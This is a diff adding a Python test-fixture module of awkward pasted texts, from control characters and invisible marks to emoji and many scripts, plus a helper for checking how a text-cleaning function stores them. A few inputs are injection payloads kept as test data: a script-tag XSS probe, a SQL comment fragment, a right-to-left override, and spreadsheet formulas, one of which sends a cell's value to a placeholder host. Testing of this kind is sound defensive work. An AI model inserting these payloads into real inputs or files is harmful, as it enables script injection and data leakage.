@@ -1,0 +1,54 @@
+"""Some twenty texts such as people paste, and what is to be kept of each."""
+
+from __future__ import annotations
+
+import html
+import re
+from dataclasses import dataclass
+
+from finsam.cleaning import clean
+
+
+@dataclass(frozen=True)
+class Awkward:
+    """A text, and in how many fields of the program it is stored at least, so that not all refuse it."""
+
+    name: str
+    text: str
+    least_stored: int = 100
+
+
+TEXTS = (
+    Awkward("control signs", "Platt\x0bform \x01nr\x1f\x7f 2\x85slut"),
+    Awkward("nul", "före\x00efter"),
+    Awkward("no signs", "hel\ufffe \uffff\ufdd0text"),
+    Awkward("ligatures", "\ufb01nansiering av \ufb02öden"),
+    Awkward("odd spaces", "tre\u2003olika\u2007slags\u202fblank\u3000tecken"),
+    Awkward("decomposed", "A\u030atga\u0308rdso\u0308versikt"),
+    Awkward("unseen marks", "\u200eosynliga\u2060 \ufeffmärken\u200b"),
+    Awkward("nothing to see", "\u200b\u2800\u3164", least_stored=0),
+    Awkward("turned round", "Anna \u202etgreB\u202c", least_stored=0),
+    Awkward(
+        "emoji",
+        "Bra jobbat \U0001f44d\U0001f3fd \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1f8\U0001f1ea",
+    ),
+    Awkward("one long word", "samordnings" * 30, least_stored=30),
+    Awkward("long text", "Samverkan ger resultat för den enskilde. " * 150, least_stored=30),
+    Awkward("html", "<b>Fet</b> & <script>alert(1)</script> &lt;i&gt; &amp;"),
+    Awkward("braces", "{{ namn }} {% if x %} {0} %s %(y)d ${z} \\n \\u0041"),
+    Awkward("bars", "| Vad | När | Vem |"),
+    Awkward("quotes", "\"D'Artagnan\" ”hon” `sa` \\' ; -- DROP"),
+    Awkward("formula", '=HYPERLINK("http://exempel.invalid/?x="&B3,"Bidrag")'),
+    Awkward("minus first", "-1+2 @SUM(A1)"),
+    Awkward("letters of Europe", "Nguyễn Thị Ánh Ελένη Ψ Жанна Щукина Ѓ"),
+    Awkward("arrows and ticks", "före → efter ✓ ✗ ☐ ☑ ≤ ≥ § ‰ ½ €"),
+    Awkward("other writings", "مرحبا שלום 你好 ไทย"),
+)
+
+_MARKUP = re.compile(r"<[^>]*>")
+_LOOSE = re.compile(r"[\s\u00a0\\]+")
+
+
+def gist(text: str) -> str:
+    """Give a text without what storing may add or take: markup, spaces, and the signs that stop a formula or a mark-up."""
+    return _LOOSE.sub("", html.unescape(_MARKUP.sub("", html.unescape(clean(text))))).replace("\u00ad", "")
